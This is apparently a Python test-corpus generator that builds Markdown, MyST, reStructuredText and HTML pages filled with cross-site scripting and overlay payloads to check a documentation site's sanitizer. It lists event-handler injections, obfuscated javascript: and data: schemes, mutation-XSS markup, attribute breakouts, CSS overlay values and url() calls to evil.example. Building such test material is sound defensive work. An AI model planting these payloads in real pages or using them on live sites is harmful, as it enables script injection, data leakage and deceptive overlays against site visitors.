"""Pages that try to run something, to ask another host, or to lie over the page: made of payloads and of places for them.

Every piece is our own; the families are those of the public lists (filter evasion, mutation of markup, handlers of events,
schemes in disguise, styles, front matter, templates, attribute lists, directives and roles).  Where one of them runs, it
calls ``hit``; where one asks, it asks ``evil.example``.
"""

from __future__ import annotations

from dataclasses import dataclass
from itertools import product
from typing import TYPE_CHECKING, Final

import yaml

if TYPE_CHECKING:
    from collections.abc import Iterable, Iterator

KRAMDOWN: Final = "kramdown"
MYST: Final = "myst"
HTML: Final = "html"
REST: Final = "rst"


def names(text: str) -> list[str]:
    """Return the names that stand in a text, blanks between them."""
    return text.split()


@dataclass(frozen=True)
class Vector:
    """A piece of a page in one dialect; ``alone`` if it may swallow what follows, ``matter`` its front matter."""

    dialect: str
    text: str
    alone: bool = False
    matter: tuple[tuple[str, object], ...] = ()


HANDLERS: Final = names("""
abort afterprint animationcancel animationend animationiteration animationstart auxclick beforecopy beforecut
beforeinput beforematch beforepaste beforeprint beforetoggle beforeunload begin blur bounce cancel canplay change
click close contentvisibilityautostatechange contextmenu copy cuechange cut dblclick drag dragend dragenter
dragexit dragleave dragover dragstart drop durationchange end ended error finish focus focusin focusout formdata
fullscreenchange gotpointercapture hashchange input invalid keydown keypress keyup load loadeddata loadedmetadata
loadstart lostpointercapture message mousedown mouseenter mouseleave mousemove mouseout mouseover mouseup
mousewheel pagehide pageshow paste pause play playing pointercancel pointerdown pointerenter pointerleave
pointermove pointerout pointerover pointerrawupdate pointerup popstate progress ratechange readystatechange repeat
reset resize scroll scrollend scrollsnapchange search securitypolicyviolation seeked seeking select selectionchange
selectstart show slotchange stalled start storage submit suspend timeupdate toggle touchcancel touchend touchmove
touchstart transitioncancel transitionend transitionrun transitionstart unhandledrejection unload volumechange
waiting webkitanimationstart webkittransitionend wheel
""")

HANDLED: Final = (
    "<img src=x {0}>",
    "<svg {0}><path d='M0 0h9v9z' {0}></path></svg>",
    "<details open {0}><summary {0}>words</summary></details>",
    "<p tabindex=0 {0}>words</p>",
    "<a href=x {0}>words</a>",
    "<x-words {0}>words</x-words>",
    "<video src=x.mp4 controls {0}></video>",
    "<body {0}>words",
    "<h2 {0}>Words</h2>",
    "<table {0}><tr {0}><td {0}>words</td></tr></table>",
    "<math {0}><mi {0}>x</mi></math>",
    "<input type=checkbox {0}>",
    "<ruby {0}>words<rt {0}>above</rt></ruby>",
    "<map name=m {0}><area href=x {0}></map>",
    "<marquee {0}>words</marquee>",
    "Words.\n{{: {0}}}",
    "## Words\n{{: {0}}}",
    "| a | b |\n| c | d |\n{{: {0}}}",
    "* words\n{{: {0}}}",
    "[words](x){{: {0}}}",
    "**words**{{: {0}}} `code`{{: {0}}} ![x](x.png){{: {0}}}",
)
SPELLINGS: Final = (
    'on{0}="hit(1)"',
    "ON{0}=hit(1)",
    "oN{0}\n=\n'hit(1)'",
    "x/on{0}=hit&#40;1&#41;",
    'title="x"on{0}="hit(1)"',
)

SCHEMES: Final = (
    "javascript:hit(1)",
    "JaVaScRiPt:hit(1)",
    " javascript:hit(1)",
    "&#1;javascript:hit(1)",
    "&#x1F;javascript:hit(1)",
    "java&#9;script:hit(1)",
    "java&#10;script:hit(1)",
    "java&#13;script:hit(1)",
    "java&Tab;script&colon;hit(1)",
    "java&NewLine;script:hit(1)",
    "&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58hit(1)",
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3Ahit(1)",
    "javascript&#0000058hit(1)",
    "javascript://evil.example/%0ahit(1)",
    "javascript:/**/hit(1)",
    "javascript&colon;hit&lpar;1&rpar;",
    "./../javascript:hit(1)",
    "./javascript:hit(1)",
    "\u00a0javascript:hit(1)",
    "\u200bjavascript:hit(1)",
    "\ufeffjavascript:hit(1)",
    "java\u00adscript:hit(1)",
    "feed:javascript:hit(1)",
    "view-source:javascript:hit(1)",
    "vbscript:hit(1)",
    "data:text/html,<script>hit(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5oaXQoMSk8L3NjcmlwdD4=",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='hit(1)'/>",
    "data:application/xhtml+xml,<x xmlns='http://www.w3.org/1999/xhtml'/>",
    "blob:https://evil.example/1",
    "filesystem:https://evil.example/1",
    "jar:https://evil.example/x!/y",
    "mhtml:https://evil.example/x",
    "ms-its:x",
)
LINKED: Final = (
    (HTML, '<a href="{0}">words</a>'),
    (KRAMDOWN, '<map name=m><area shape=default href="{0}"></map><img src=x.png usemap="{0}">'),
    (MYST, '<iframe src="{0}" title=words></iframe>'),
    (HTML, '<form action="{0}"><button formaction="{0}">words</button></form>'),
    (KRAMDOWN, '<object data="{0}">words</object><embed src="{0}">'),
    (MYST, '<img src="{0}" srcset="{0} 2x" longdesc="{0}" dynsrc="{0}" lowsrc="{0}">'),
    (
        HTML,
        '<video poster="{0}" src="{0}"><source src="{0}"><track src="{0}" default></video><audio src="{0}"></audio>',
    ),
    (KRAMDOWN, '<blockquote cite="{0}">words</blockquote><q cite="{0}">words</q><del cite="{0}">words</del>'),
    (
        MYST,
        '<svg><a xlink:href="{0}" href="{0}"><text y="9">words</text></a><use href="{0}"/><image href="{0}"/></svg>',
    ),
    (HTML, '<math href="{0}"><mi xlink:href="{0}">x</mi></math>'),
    (KRAMDOWN, '<link rel=stylesheet href="{0}"><base href="{0}"><meta http-equiv=refresh content="0;url={0}">'),
    (MYST, '<table background="{0}"><tr><td background="{0}">words</td></tr></table><body background="{0}">'),
    (HTML, '<a href="x" ping="{0}" attributionsrc="{0}">words</a><script src="{0}"></script>'),
    (KRAMDOWN, "[words](<{0}>) ![words](<{0}>)"),
    (MYST, "[words](<{0}>) ![words](<{0}>)"),
    (KRAMDOWN, "[words][r{1}]\n\n[r{1}]: {0}"),
    (MYST, "[words][r{1}]\n\n[r{1}]: <{0}>"),
    (KRAMDOWN, '[words](x){{: href="{0}" src="{0}" action="{0}"}}'),
    (KRAMDOWN, "<{0}>"),
    (MYST, "```{{button-link}} {0}\n:color: primary\nwords\n```"),
    (MYST, "```{{figure}} x.png\n:target: {0}\nWords.\n```"),
    (KRAMDOWN, "```{{image}} {0}\n:target: {0}\n```"),
    (MYST, "````{{card}} Words\n:link: {0}\n:img-top: {0}\nwords\n````"),
    (MYST, "```{{toctree}}\nwords <{0}>\n{0}\n```"),
    (KRAMDOWN, "```{{toctree}}\nwords <{0}>\n```"),
    (MYST, "{{bdg-link-primary}}`words <{0}>` {{download}}`words <{0}>` {{ref}}`words <{0}>` {{doc}}`words <{0}>`"),
    (MYST, "```{{video}} {0}\n:title: words\n:poster: {0}\n```"),
    (REST, "`words <{0}>`_ and `words <{0}>`__\n\n.. image:: {0}\n   :target: {0}\n\n.. _t{1}: {0}\n\nt{1}_"),
    (REST, ".. toctree::\n\n   words <{0}>"),
)

OUTER: Final = (
    "<svg>{0}</svg>",
    "<math>{0}</math>",
    "<math><mtext><table><mglyph>{0}</mglyph></table></mtext></math>",
    "<math><annotation-xml encoding='text/html'>{0}</annotation-xml></math>",
    "<svg><foreignObject>{0}</foreignObject></svg>",
    "<svg><desc>{0}</desc></svg>",
    "<svg></p>{0}</svg>",
    "<form><math><mtext></form><form><mglyph>{0}</mglyph></form></mtext></math>",
    "<table><caption>{0}</caption></table>",
    "<select><template>{0}</template></select>",
    "<noscript>{0}</noscript>",
    "<template>{0}</template>",
    "<details><summary><p>{0}</summary></details>",
    "<p><button><a><table>{0}</table></a></button></p>",
)
INNER: Final = (
    "<style><!--</style><img src=x onerror=hit(1)>--></style>",
    "<title><a title='</title><img src=x onerror=hit(1)>'></title>",
    "<!--<img title='--><img src=x onerror=hit(1)>'>-->",
    "<![CDATA[<img src=x onerror=hit(1)>]]>",
    "<textarea><img title='</textarea><img src=x onerror=hit(1)>'></textarea>",
    "<xmp><p title='</xmp><img src=x onerror=hit(1)>'></xmp>",
    "<noembed><b title='</noembed><img src=x onerror=hit(1)>'></noembed>",
    "<noframes><b title='</noframes><img src=x onerror=hit(1)>'></noframes>",
    "<iframe><b title='</iframe><img src=x onerror=hit(1)>'></iframe>",
    "<script>hit(1)</script><a href='javascript:hit(1)'><b>words</b></a>",
    "<animate attributeName=href values='javascript:hit(1)' begin=0s onbegin=hit(1) />",
    "<set attributeName=onmouseover to=hit(1) /><use href='data:image/svg+xml,x#y' />",
)
GREEDY: Final = (
    "<!-- words <img src=x onerror=hit(1)>",
    "<!--><img src=x onerror=hit(1)>",
    "<!-- --!><img src=x onerror=hit(1)>",
    "<![CDATA[ <img src=x onerror=hit(1)>",
    "<plaintext><img src=x onerror=hit(1)>",
    "<xmp><img src=x onerror=hit(1)>",
    "<textarea><img src=x onerror=hit(1)>",
    "<title><img src=x onerror=hit(1)>",
    "<style><img src=x onerror=hit(1)>",
    "<script>hit(1)",
    "<script>hit(1)//<!--<script></script>",
    "<noscript><img src=x onerror=hit(1)>",
    "<iframe><img src=x onerror=hit(1)>",
    "<template><img src=x onerror=hit(1)>",
    "<select><img src=x onerror=hit(1)>",
    "<a href='javascript:hit(1)'><a href='javascript:hit(1)",
    "<img src=x onerror=hit(1)//",
    "<svg/onload=hit(1)//",
    "<?php <img src=x onerror=hit(1)>",
    "</main></div></body><img src=x onerror=hit(1)>",
    "<frameset onload=hit(1)><frame src='javascript:hit(1)'>",
    "<div id=site-nav class=side-bar><nav>words",
)

PLACED: Final = (
    (
        "position",
        "fixed|absolute|sticky|relative|FIXED|fix\\65d|/**/fixed|fixed !important|var(--x,fixed)|-webkit-sticky",
    ),
    ("inset", "0|-9999px|0 auto auto 0"),
    ("top", "-300px|-50vh"),
    ("transform", "translate(-600px,-300px)|scale(50)|rotate(45deg)|matrix(9,0,0,9,0,0)"),
    ("translate", "-600px -300px"),
    ("scale", "50"),
    ("zoom", "50"),
    (
        "margin",
        "-300px|0 -300px|-300px 0 0 -300px|calc(0px - 300px)|calc(calc(1px - 300px))|calc(-1 * (300px + 1vw))|1e9px",
    ),
    (
        "margin",
        "min(-300px,0px)|max(-300px,-200px)|clamp(-300px,-200px,0px)|-50%|+0 -.5e3px|0-300px|env(x,-300px)",
    ),
    ("margin-left", "-400px|calc(10px*-40)|calc(0px - (100px + 300px))|-40em|-4e2px|var(--x,-400px)"),
    ("margin-top", "-900px|calc(1em - 900px)|-90vh|-90%|-0900.0px"),
    ("margin-inline-start", "-400px|calc(-1px * 400)"),
    ("margin-block", "-900px 0"),
    ("text-indent", "-900px|calc(0px - 900px)|-90em hanging"),
    ("letter-spacing", "-90px|calc(-90px)"),
    ("word-spacing", "-900px"),
    ("line-height", "0|9999|9999px"),
    ("font-size", "9999px|500vw|calc(9999px)"),
    ("font", "9999px/0 serif|900px serif"),
    ("width", "9999px|900vw|calc(100% + 9999px)|max-content|9999%"),
    ("height", "9999px|900vh"),
    ("min-width", "9999px|500%"),
    ("padding", "9999px|0 0 0 900vw"),
    ("padding-left", "4000px"),
    ("border", "9999px solid red|500px solid red"),
    ("border-left-width", "9999px"),
    ("border-image", "url(@) 9 / 900px / 900px"),
    ("outline", "9999px solid red|500px solid red"),
    ("outline-offset", "9999px|-50px"),
    ("box-shadow", "-300px 0 0 200px red|0 0 0 9999px red|inset 0 0 9px red|0 0 900px 900px"),
    ("text-shadow", "-400px 0 red|0 -300px 9px red"),
    ("filter", "drop-shadow(-400px 0 red)|url(@)"),
    ("backdrop-filter", "blur(9px)"),
    ("float", "left|right"),
    ("display", "table-cell|contents|grid|inline-flex"),
    ("vertical-align", "-900px|900px|9999%|calc(900px)"),
    ("writing-mode", "vertical-rl|sideways-lr"),
    ("direction", "rtl"),
    ("columns", "1px|900"),
    ("column-gap", "9999px"),
    ("gap", "9999px"),
    ("background", "url(@)|URL('@')|u\\72l(@)|image-set('@' 1x)|cross-fade(url(@),red)|src('@')|red/**/url(@)|url(@"),
    ("list-style", "url(@)|inside url(@)"),
    ("cursor", "url(@),auto|none"),
    ("content", "url(@)|'words'"),
    ("mask", "url(@)"),
    ("clip-path", "url(@)|circle(9999px)"),
    ("shape-outside", "url(@)"),
    ("offset-path", "path('M-400 -400L0 0')|url(@)"),
    ("animation", "x 1s|spin 1s infinite"),
    ("transition", "all 1s"),
    ("font-family", "'x';src:url(@)|x}body{background:url(@)}"),
    ("grid-template-columns", "9999px|repeat(999,999px)"),
    ("grid-area", "1/1/9/9"),
    ("flex", "0 0 9999px"),
    ("perspective", "1px"),
    ("contain", "none"),
    ("z-index", "99999"),
    ("pointer-events", "none"),
    ("all", "unset|initial"),
    ("anchor-name", "--x"),
    ("position-anchor", "--x"),
    ("view-transition-name", "x"),
    ("behavior", "url(@)"),
    ("-moz-binding", "url(@)"),
    ("width", "expression(hit(1))"),
    ("--x", "url(@)|-400px"),
    ("color", "red;position:fixed|red\\;position:fixed|red'};position:fixed|red&#59;position&#58;fixed"),
)
STYLED: Final = (
    (HTML, '<div title=covers style="{0}"><a href="x">covers words</a></div>'),
    (KRAMDOWN, 'Covers words.\n{{: style="{0}"}}'),
    (MYST, '<span style="{0}">covers words</span> <img src=x.png style="{0}">'),
)

BREAKING: Final = (
    '"><img src=x onerror=hit(1)>',
    "'><svg onload=hit(1)>",
    '" onmouseover="hit(1)',
    "' onfocus='hit(1)' autofocus x='",
    "</title></style></textarea><script>hit(1)</script>",
    "--><script>hit(1)</script><!--",
    "]]><script>hit(1)</script>",
    "&quot;&gt;&lt;img src=x onerror=hit(1)&gt;",
    '\\"><img src=x onerror=hit(1)>',
    "`><img src=x onerror=hit(1)>",
    '\u2028"><img src=x onerror=hit(1)>',
)
WRITTEN: Final = (
    (KRAMDOWN, "## Words {0}"),
    (MYST, "## Words {0}"),
    (KRAMDOWN, "## Words\n{{: id='{1}'}}"),
    (KRAMDOWN, '## Words\n{{: id="{1}" class="{1}" title="{1}"}}'),
    (HTML, '<h2 id="{2}" class="{2}" title="{2}" lang="{2}">Words</h2><p id="{2}">words</p>'),
    (KRAMDOWN, "{{::options auto_id_prefix='{1}' /}}\n\n## Words"),
    (KRAMDOWN, "![{0}](x.png '{1}') [words](x \"{1}\")"),
    (MYST, "![{0}](x.png '{1}') [words](x \"{1}\")"),
    (MYST, "![{0}](https://picture.evil.example/x.mp4)"),
    (KRAMDOWN, "*[Abbr{3}]: {0}\n\nAn Abbr{3} here."),
    (KRAMDOWN, "Words[^{3}].\n\n[^{3}]: {0}"),
    (KRAMDOWN, "Words[^{1}].\n\n[^{1}]: words"),
    (MYST, "Words[^m{3}].\n\n[^m{3}]: {0}"),
    (KRAMDOWN, "| {0} | b |\n|---|---|\n| c | {0} |"),
    (MYST, "| {0} | b |\n|---|---|\n| c | {0} |"),
    (KRAMDOWN, "{0}\n: {0}"),
    (KRAMDOWN, "~~~ {1}\n{0}\n~~~"),
    (MYST, "~~~ {1}\n{0}\n~~~"),
    (KRAMDOWN, "$$ {0} $$"),
    (MYST, "$$ {0} $$ (label{3})"),
    (MYST, "```{{math}}\n:label: {1}\nx {0}\n```"),
    (MYST, "```{{note}}\n:name: {1}\n:class: {1}\n{0}\n```"),
    (MYST, "```{{admonition}} {0}\n:name: '{1}'\nwords\n```"),
    (MYST, "```{{figure}} x.png\n:name: {1}\n:alt: {0}\n:width: {1}\n:align: {1}\n:class: {1}\n{0}\n```"),
    (MYST, "```{{figure}} https://picture.evil.example/x.mp4\n:alt: {0}\n{0}\n```"),
    (MYST, "```{{code-block}} {1}\n:caption: {0}\n:name: {1}\n:emphasize-lines: {1}\n{0}\n```"),
    (MYST, "```{{list-table}} {0}\n:widths: {1}\n:class: {1}\n* - {0}\n```"),
    (MYST, "```{{table}} {0}\n:align: {1}\n:width: {1}\n| a |\n|---|\n| {0} |\n```"),
    (MYST, "```{{dropdown}} {0}\n:name: {1}\n:icon: {1}\n:class-title: {1}\n{0}\n```"),
    (MYST, "````{{tab-set}}\n:sync-group: {1}\n```{{tab-item}} {0}\n:sync: {1}\n{0}\n```\n````"),
    (MYST, "````{{card}} {0}\n:link: {1}\n:link-alt: {0}\n:img-alt: {0}\n:class-card: {1}\n{0}\n````"),
    (MYST, "```{{button-link}} https://example.org/{1}\n:tooltip: {0}\n{0}\n```"),
    (MYST, "```{{article-info}}\n:author: {0}\n:date: {0}\n:avatar-link: {1}\n```"),
    (MYST, "```{{index}} {0}\n```\n```{{glossary}}\n{0}\n  {0}\n```"),
    (MYST, "```{{py:function}} f(x='{0}') -> {0}\n:module: {1}\n{0}\n```"),
    (MYST, "```{{js:function}} {0}\n```\n```{{option}} {0}\nwords\n```\n```{{envvar}} {0}\n```"),
    (MYST, "```{{versionadded}} {0}\n{0}\n```\n```{{deprecated}} {0}\n```"),
    (REST, ".. productionlist:: g{3}\n   a: {0}"),
    (MYST, "```{{epigraph}}\n{0}\n\n-- {0}\n```\n```{{topic}} {0}\n{0}\n```\n```{{sidebar}} {0}\n{0}\n```"),
    (MYST, "```{{hlist}}\n* {0}\n```\n```{{centered}} {0}\n```\n```{{rubric}} {0}\n:name: {1}\n```"),
    (MYST, "```{{raw}} html\n{0}\n```"),
    (MYST, "```{{only}} html\n{0}\n```\n```{{container}} {1}\n{0}\n```\n```{{class}} {1}\n```"),
    (MYST, "```{{video}} https://www.youtube.com/watch?v=aaaaaaaaaaa\n:title: {0}\n:width: {1}\n```"),
    (MYST, "{{octicon}}`report;1em;{1}` {{fas}}`home;{1}` {{material-regular}}`home;1em;{1}`"),
    (MYST, "{{abbr}}`A ({0})` {{kbd}}`{0}` {{sub}}`{0}` {{math}}`{0}` {{code}}`{0}` {{guilabel}}`{0}` {{bdg}}`{0}`"),
    (
        MYST,
        "{{download}}`{0} <x.png>` {{index}}`{0}` {{term}}`{0}` {{eq}}`{1}` {{numref}}`{0} <{1}>` {{pep}}`{1}` {{rfc}}`{1}`",
    ),
    (MYST, "({1})=\n## Words\n\n[](#{1}) {{ref}}`{1}`"),
    (MYST, "[words]{{.{1}}}\n\n{{#{1} .{1} title='{1}'}}\nWords."),
    (MYST, "% {0}\n\n+++ {0}\n\n- [ ] {0}"),
    (
        REST,
        ".. _n{3} {1}:\n\nWords\n-----\n\n|s{3}| [#f{3}]_ [c{3}]_\n\n.. |s{3}| replace:: {0}\n.. [#f{3}] {0}\n.. [c{3}] {0}",
    ),
    (
        REST,
        ".. raw:: html\n\n   {0}\n\n.. meta::\n   :description: {0}\n   :{1}: {0}\n\n:field {0}: {0}\n\n--option={1}  {0}",
    ),
    (
        REST,
        ".. role:: r{3}(raw)\n   :format: html\n\n:r{3}:`{0}` :math:`{0}`\n\n.. math::\n   :label: {1}\n\n   {0}",
    ),
    (REST, ".. parsed-literal::\n\n   {0} `{1} <x>`_\n\n.. code:: {1}\n\n   {0}\n\n.. line-block::\n\n   {0}"),
    (
        KRAMDOWN,
        '{{% assign x = "{2}" %}}{{{{ x }}}} {{{{ x | markdownify }}}} <p title="{{{{ x }}}}">words</p>',
    ),
    (
        KRAMDOWN,
        "{{% capture y %}}{0}{{% endcapture %}}{{{{ y | url_decode }}}}{{{{ y | jsonify }}}}",
    ),
    (
        KRAMDOWN,
        "{{% highlight text %}}{0}{{% endhighlight %}}{{% raw %}}{0}{{% endraw %}}{{% comment %}}{0}{{% endcomment %}}",
    ),
    (KRAMDOWN, "{{::nomarkdown}}{0}{{:/}} {{::comment}}{0}{{:/comment}}"),
    (KRAMDOWN, "<div markdown='1' title='{1}'>\n{0}\n</div>"),
)

MATTER: Final = names(
    """
    title description summary author lang dir image permalink parent grand_parent nav_order layout redirect_to
    redirect_from canonical_url tags categories nav_fold last_modified_date link html_meta og_title twitter seo robots
    """
)
MATTER_SAYS: Final = (
    "<script>hit(1)</script>",
    "Words \"><img src=x onerror=hit(1)> '</title>",
    "javascript:hit(1)",
    "/javascript:hit(1)//",
    '/x" onload="hit(1)/',
    "0;url=javascript:hit(1)",
    "</script><svg onload=hit(1)>",
    "//evil.example/",
)


def handlers() -> Iterator[Vector]:
    """Each handler of events on two elements, in a spelling that changes."""
    places = [
        (KRAMDOWN if ":" in form else (HTML, KRAMDOWN, MYST)[number % 3], form) for number, form in enumerate(HANDLED)
    ]
    for number, name in enumerate(HANDLERS):
        for turn in range(3):
            dialect, form = places[(number + 7 * turn) % len(places)]
            spelling = SPELLINGS[0] if "{{" in form else SPELLINGS[(number + turn) % len(SPELLINGS)]
            yield Vector(dialect, form.format(spelling.format(name)))


def schemes() -> Iterator[Vector]:
    """Each scheme in disguise at each place for an address."""
    for number, (scheme, (dialect, form)) in enumerate(product(SCHEMES, LINKED)):
        yield Vector(dialect, form.format(scheme, number))


def mutations() -> Iterator[Vector]:
    """Markup that a second reading may see in another way, and markup that is not closed."""
    for number, (outer, inner) in enumerate(product(OUTER, INNER)):
        yield Vector((HTML, KRAMDOWN, MYST)[number % 3], outer.format(inner))
    for dialect, text in product((HTML, KRAMDOWN, MYST), GREEDY):
        yield Vector(dialect, text, alone=True)


def styles() -> Iterator[Vector]:
    """Each way out of its place that a style may take, in turn at each place for a style."""
    number = 0
    for name, values in PLACED:
        for value in values.split("|"):
            for turn in range(2):
                dialect, form = STYLED[(number + turn) % len(STYLED)]
                yield Vector(
                    dialect,
                    form.format(
                        f"background-color:red;{name}:{value}".replace('"', "&quot;").replace(
                            "@", "https://css.evil.example/"
                        )
                    ),
                )
            number += 1


def furniture(classes: Iterable[str], ids: Iterable[str]) -> Iterator[Vector]:
    """Each class and id of the style sheets on an element that would cover what it lies over."""
    forms = (
        (HTML, '<div class="{0}"><a class="{0}" href="x">covers words</a></div>'),
        (KRAMDOWN, 'Covers words.\n{{: .{0} style="writing-mode: vertical-rl; height: 40em"}}'),
        (MYST, "```{{container}} {0}\ncovers words\n```"),
    )
    for number, name in enumerate(classes):
        for turn in range(2):
            dialect, form = forms[(number + turn) % len(forms)]
            yield Vector(dialect, form.format(name))
    for name in ids:
        yield Vector(
            HTML, f'<div id="{name}" data-tree="https://evil.example/x.js"><button>covers words</button></div>'
        )


def texts() -> Iterator[Vector]:
    """What breaks out of an attribute or a text, at each place that takes words, names or options."""
    for number, (text, (dialect, form)) in enumerate(product(BREAKING, WRITTEN)):
        name = text.replace("\n", " ")
        yield Vector(dialect, form.format(text, name, text.replace('"', "&quot;"), number))


def front_matter() -> Iterator[Vector]:
    """Each thing that a page's front matter may say."""
    for number, said in enumerate(MATTER_SAYS):
        for first in range(0, len(MATTER), 5):
            matter = tuple((key, said) for key in MATTER[first : first + 5])
            yield Vector(MYST if number % 2 else KRAMDOWN, "Words.", alone=True, matter=matter)


def corpus(classes: Iterable[str], ids: Iterable[str]) -> list[Vector]:
    """Return all vectors."""
    return [
        *handlers(),
        *schemes(),
        *mutations(),
        *styles(),
        *furniture(classes, ids),
        *texts(),
        *front_matter(),
    ]


def pages(vectors: Iterable[Vector], each: int = 100) -> dict[str, str]:
    """Return the sources of pages with ``each`` vectors on a page, those alone that may swallow others."""
    waiting: dict[str, list[str]] = {}
    made: dict[str, str] = {}
    for vector in vectors:
        if vector.alone:
            made[_name(made, vector.dialect)] = _page(vector.dialect, [vector.text], len(made), vector.matter)
            continue
        texts_waiting = waiting.setdefault(vector.dialect, [])
        texts_waiting.append(vector.text)
        if len(texts_waiting) == each:
            made[_name(made, vector.dialect)] = _page(vector.dialect, waiting.pop(vector.dialect), len(made))
    for dialect, left in waiting.items():
        made[_name(made, dialect)] = _page(dialect, left, len(made))
    return made


def _name(made: dict[str, str], dialect: str) -> str:
    return f"v{len(made)}.{'html' if dialect == HTML else 'md'}"


def _page(dialect: str, parts: list[str], number: int, matter: tuple[tuple[str, object], ...] = ()) -> str:
    if dialect == REST:
        parts = [f"````{{eval-rst}}\n{part}\n````" for part in parts]
    shown = {"title": f"Page {number}", "dialect": KRAMDOWN if dialect in (KRAMDOWN, HTML) else MYST, **dict(matter)}
    if not matter:
        shown["nav_exclude"] = True  # menus would hold all pages
    body = "\n\n".join(["First words.", *parts, "Last words."])
    return f"---\n{yaml.safe_dump(shown, allow_unicode=True, sort_keys=False)}---\n{body}\n"
